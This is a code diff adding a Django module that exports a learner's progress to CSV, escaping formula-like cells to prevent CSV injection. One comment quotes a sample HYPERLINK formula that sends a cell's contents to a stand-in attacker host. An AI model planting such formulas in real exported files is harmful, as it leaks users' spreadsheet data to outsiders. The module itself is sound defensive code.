@@ -1,0 +1,49 @@
+"""A learner's progress as a CSV file they can keep (their data, in a format any spreadsheet
+or script reads)."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import datetime
+
+from django.contrib.auth.models import User
+
+from recommender import selectors as recommender_selectors
+from recommender.models import ProgressState
+
+COLUMNS = ["title", "address", "state", "rating", "completed_at", "updated_at"]
+
+# A cell starting with one of these is a formula to spreadsheet programs: a feed entry titled
+# '=HYPERLINK("https://evil.example/?"&A1,"Open")' would run in the learner's spreadsheet.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value: str) -> str:
+    """Text a spreadsheet shows as text: formula-like cells get a leading apostrophe (OWASP's
+    advice for CSV injection)."""
+    return f"'{value}" if value.startswith(_FORMULA_STARTS) else value
+
+
+def _when(moment: datetime | None) -> str:
+    return moment.isoformat(timespec="seconds") if moment else ""
+
+
+def progress_csv(*, user: User) -> str:
+    """Every progress row of the learner (any state, withdrawn resources too), newest first."""
+    out = io.StringIO()
+    writer = csv.writer(out)
+    writer.writerow(COLUMNS)
+    rows = recommender_selectors.progress_list(user=user).order_by("-updated_at", "-pk")
+    for row in rows:
+        writer.writerow(
+            [
+                spreadsheet_safe(row.resource.title),
+                spreadsheet_safe(row.resource.url or ""),
+                ProgressState(row.state).label,
+                row.rating or "",
+                _when(row.completed_at),
+                _when(row.updated_at),
+            ]
+        )
+    return out.getvalue()
